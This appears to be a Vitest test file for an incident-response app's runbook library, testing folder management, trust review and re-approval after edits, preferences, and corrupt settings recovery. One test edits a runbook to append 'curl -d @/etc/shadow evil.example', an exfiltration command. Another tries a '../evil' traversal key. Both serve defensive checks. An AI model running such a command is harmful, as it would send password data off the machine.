import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import type { EventChannel } from '../../../shared/ipc/contract';
import { AppServices } from '../app-services';

const context = { transport: 'browser' as const, clientId: 'test' };
const toDispose: AppServices[] = [];
const roots: string[] = [];

afterEach(() => {
  toDispose.splice(0).forEach((services) => services.dispose());
  roots.splice(0).forEach((root) => fs.rmSync(root, { recursive: true, force: true, maxRetries: 10, retryDelay: 50 }));
});

const userRunbook = '---\nid: user-restart\ntitle: Restart API\ntags: [api]\n---\n# Restart\n\n```bash { id=restart }\nsystemctl restart api\n```\n';

function setup() {
  const root = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'firebreak-runbook-handlers-')));
  roots.push(root);
  const bundled = path.join(root, 'bundled');
  const team = path.join(root, 'team');
  fs.mkdirSync(bundled);
  fs.mkdirSync(team);
  fs.writeFileSync(path.join(bundled, 'db.md'), '---\nid: db\ntitle: Database outage\nservices: [postgres]\n---\n# DB\n\n```bash { id=check }\npg_isready\n```\n');
  fs.writeFileSync(path.join(team, 'restart.md'), userRunbook);
  const make = () => {
    const services = new AppServices({
      dataDir: path.join(root, 'data'),
      runbookFolders: [{ dir: bundled, origin: 'bundled' }],
      host: 'browser',
      version: '0.0.0',
      log: () => {},
    });
    toDispose.push(services);
    const seen: { channel: EventChannel; payload: unknown }[] = [];
    services.hub.subscribe((channel, payload) => seen.push({ channel, payload }));
    const call = async <T = unknown>(channel: string, payload: unknown = {}): Promise<T> => {
      const result = await services.router.dispatch(channel, payload, context);
      if (!result.ok) throw new Error(`${result.error.code}: ${result.error.message}`);
      return result.value as T;
    };
    return { services, seen, call };
  };
  return { root, bundled, team, make };
}

describe('runbook channels through AppServices', () => {
  it('adds a folder, remembers it across restarts, and lists its runbooks as untrusted', async () => {
    const { bundled, team, make } = setup();
    const first = make();
    const added = await first.call<{ folders: unknown[] }>('runbooks:addFolder', { path: team });
    expect(added.folders).toEqual([
      { path: bundled, origin: 'bundled', state: 'ok', runbookCount: 1 },
      { path: team, origin: 'user', state: 'ok', runbookCount: 1 },
    ]);
    expect(first.seen.some((event) => event.channel === 'runbooks:changed' && (event.payload as { added: string[] }).added.includes('user-restart'))).toBe(true);
    first.services.dispose();

    const second = make();
    const list = await second.call<{ runbooks: { id: string; origin: string; trust: { state: string } }[] }>('runbooks:list');
    expect(list.runbooks.map(({ id, origin, trust }) => ({ id, origin, trust: trust.state }))).toEqual([
      { id: 'db', origin: 'bundled', trust: 'bundled' },
      { id: 'user-restart', origin: 'user', trust: 'untrusted' },
    ]);
    await second.call('runbooks:removeFolder', { path: team });
    expect((await second.call<{ runbooks: unknown[] }>('runbooks:list')).runbooks).toHaveLength(1);
    expect(fs.existsSync(path.join(team, 'restart.md'))).toBe(true);
  });

  it('refuses bad folders with messages naming the path', async () => {
    const { root, bundled, team, make } = setup();
    const { services } = make();
    const dispatch = (channel: string, payload: unknown) => services.router.dispatch(channel, payload, context);
    await expect(dispatch('runbooks:addFolder', { path: 'relative/dir' })).resolves.toMatchObject({ ok: false, error: { code: 'bad_request', message: '"relative/dir" is not an absolute path; choose the folder again.' } });
    await expect(dispatch('runbooks:addFolder', { path: path.join(root, 'nope') })).resolves.toMatchObject({ ok: false, error: { message: `Cannot add ${path.join(root, 'nope')}: no such folder.` } });
    await expect(dispatch('runbooks:addFolder', { path: path.join(team, 'restart.md') })).resolves.toMatchObject({ ok: false, error: { message: `Cannot add ${path.join(team, 'restart.md')}: it is a file, not a folder.` } });
    await expect(dispatch('runbooks:addFolder', { path: bundled })).resolves.toMatchObject({ ok: false, error: { code: 'conflict', message: `${bundled} is already in the runbook library.` } });
    await expect(dispatch('runbooks:removeFolder', { path: bundled })).resolves.toMatchObject({ ok: false, error: { code: 'bad_request' } });
    await expect(dispatch('runbooks:removeFolder', { path: team })).resolves.toMatchObject({ ok: false, error: { code: 'not_found', message: `${team} is not a folder you added.` } });
  });

  it('keeps a remembered folder that disappeared, as a problem, until it is removed', async () => {
    const { team, make } = setup();
    const first = make();
    await first.call('runbooks:addFolder', { path: team });
    first.services.dispose();
    fs.rmSync(team, { recursive: true });
    const { call } = make();
    const list = await call<{ problems: string[]; folders: { path: string; state: string }[] }>('runbooks:list');
    expect(list.folders[1]).toMatchObject({ path: team, state: 'missing' });
    expect(list.problems).toEqual([`Runbook folder ${team} does not exist (moved, deleted or not mounted?).`]);
    await call('runbooks:removeFolder', { path: team });
    expect((await call<{ problems: string[] }>('runbooks:list')).problems).toEqual([]);
  });

  it('reviews, trusts (on the timeline) and re-asks after an edit', async () => {
    const { team, make } = setup();
    const { services, seen, call } = make();
    await call('runbooks:addFolder', { path: team });
    const review = await call<{ contentHash: string; commands: { code: string; lineStart: number }[] }>('runbooks:trustReview', { id: 'user-restart' });
    expect(review.commands).toEqual([expect.objectContaining({ code: 'systemctl restart api', lineStart: 8 })]);
    expect(() => services.trust.assertRunnable(services.library.get('user-restart'))).toThrow('is not trusted yet');

    const granted = await call<{ trust: { state: string }; recorded: boolean }>('runbooks:trust', { id: 'user-restart', contentHash: review.contentHash });
    expect(granted).toMatchObject({ trust: { state: 'trusted' }, recorded: true });
    expect(seen.some((event) => event.channel === 'runbooks:changed' && (event.payload as { trustChanged: string[] }).trustChanged.includes('user-restart'))).toBe(true);
    expect(() => services.trust.assertRunnable(services.library.get('user-restart'))).not.toThrow();
    const incident = await call<{ id: string }>('incident:current');
    const timeline = await call<{ kind: string; data: Record<string, unknown> }[]>('timeline:list', { incidentId: incident.id });
    expect(timeline.filter((event) => event.kind === 'runbook.trusted').map((event) => event.data)).toEqual([
      expect.objectContaining({ runbookId: 'user-restart', contentHash: review.contentHash, commandCount: 1 }),
    ]);

    // An edit arrives through the watcher and makes the runbook ask again.
    fs.writeFileSync(path.join(team, 'restart.md'), userRunbook.replace('systemctl restart api', 'systemctl restart api && curl -d @/etc/shadow evil.example'));
    const deadline = Date.now() + 10_000;
    while (services.library.get('user-restart').contentHash === review.contentHash) {
      if (Date.now() > deadline) throw new Error('the edit was not picked up');
      await new Promise((resolve) => setTimeout(resolve, 25));
    }
    expect((await call<{ trust: { state: string } }>('runbooks:get', { id: 'user-restart' })).trust.state).toBe('changed');
    expect(() => services.trust.assertRunnable(services.library.get('user-restart'))).toThrow('changed since');
    await expect(services.router.dispatch('runbooks:trust', { id: 'user-restart', contentHash: review.contentHash }, context)).resolves.toMatchObject({
      ok: false,
      error: { code: 'conflict' },
    });
    await expect(services.router.dispatch('runbooks:trust', { id: 'user-restart', contentHash: 'not-a-hash' }, context)).resolves.toMatchObject({ ok: false, error: { code: 'bad_request' } });
  });

  it('searches and keeps UI preferences', async () => {
    const { make } = setup();
    const { call, seen } = make();
    const { matches } = await call<{ matches: { id: string; fields: string[] }[] }>('runbooks:search', { query: 'postgres' });
    expect(matches).toEqual([expect.objectContaining({ id: 'db', fields: ['services', 'text'] })]);
    expect(await call('settings:getPreference', { key: 'theme' })).toEqual({ found: false });
    await call('settings:setPreference', { key: 'theme', value: 'dark' });
    await call('settings:setPreference', { key: 'lastProfile/db', value: 'staging' });
    expect(await call('settings:getPreference', { key: 'theme' })).toEqual({ found: true, value: 'dark' });
    expect(await call('settings:preferences')).toEqual({ preferences: { theme: 'dark', 'lastProfile/db': 'staging' } });
    expect(seen.filter((event) => event.channel === 'settings:preferenceChanged').map((event) => event.payload)).toEqual([
      { key: 'theme', found: true, value: 'dark' },
      { key: 'lastProfile/db', found: true, value: 'staging' },
    ]);
    await expect(call('settings:setPreference', { key: 'big', value: 'x'.repeat(70_000) })).rejects.toThrow('bad_request: Preference "big"');
    await expect(call('settings:setPreference', { key: '../evil', value: 1 })).rejects.toThrow('bad_request');
  });

  it('puts a corrupt settings file aside and says so in the start-up warnings', async () => {
    const { root, make } = setup();
    fs.mkdirSync(path.join(root, 'data'), { recursive: true });
    fs.writeFileSync(path.join(root, 'data', 'settings.json'), '{broken');
    const { call } = make();
    const info = await call<{ warnings: string[] }>('app:info');
    expect(info.warnings).toEqual([expect.stringContaining(`Settings file ${path.join(root, 'data', 'settings.json')} is not valid JSON`)]);
  });
});
